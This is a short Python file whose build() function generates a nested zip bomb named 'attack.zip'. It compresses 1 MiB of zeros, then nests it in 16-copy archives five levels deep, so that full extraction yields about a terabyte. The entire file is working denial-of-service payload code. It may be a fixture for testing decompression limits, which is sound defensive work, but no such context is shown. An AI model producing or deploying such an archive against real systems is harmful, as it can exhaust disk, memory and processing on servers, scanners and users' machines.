import io
import zipfile
from pathlib import Path


def packed(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def build(folder: Path) -> None:
    content = bytes(1 << 20)
    for _ in range(5):
        content = packed({f"{number}.zip": content for number in range(16)})
    (folder / "attack.zip").write_bytes(content)
